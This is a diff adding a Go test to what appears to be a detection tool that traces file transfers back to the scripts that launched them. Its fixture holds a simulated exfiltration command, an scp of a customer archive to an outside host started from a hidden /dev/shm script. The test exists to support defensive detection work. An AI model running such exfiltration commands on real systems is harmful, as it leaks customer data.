@@ -69,6 +69,28 @@ func TestATransferIsTheToolWithItsSubtreeItsBytesAndItsFiles(t *testing.T) {
 	}
 }
 
+// A cluster gives what was read or sent, of another stream, before the execution
+// that says what the parent runs.
+func TestAnExecutionThatComesLateTellsOfTheParentAllTheSame(t *testing.T) {
+	s := newScene()
+	s.images[4110], s.images[4121] = "/usr/bin/dash", "/usr/bin/scp"
+	s.process(ecs.File, "open", "access", 4121, 4110)
+	for column, text := range map[ecs.Column]string{ecs.ProcessTool: "scp", ecs.ProcessToolHow: "name", ecs.FilePath: "/srv/customers.tar.gz"} {
+		s.Keyword(column, text)
+	}
+	k := newTracker()
+	k.put(viewOf(s.Build()))
+	if what := k.transferOf(t, s.entity(4121), s.now).What(); what != "scp ◂ dash" {
+		t.Fatalf("what is %q", what)
+	}
+	s.exec(4121, 4110, "scp -q /srv/customers.tar.gz outside:/srv/")
+	s.Keyword(ecs.ParentCommandLine, "/bin/sh /dev/shm/.x.sh")
+	k.put(viewOf(s.Build()))
+	if got := k.transferOf(t, s.entity(4121), s.now); got.What() != "scp ◂ .x.sh" || got.Ancestors[0].Script != "/dev/shm/.x.sh" {
+		t.Errorf("%q, %+v", got.What(), got.Ancestors)
+	}
+}
+
 func TestTheSameEventsTwiceOrLateChangeNoTotal(t *testing.T) {
 	s := theft()
 	s.net("transfer", 4122, "203.0.113.9:22", 48_000_000, 4_000)
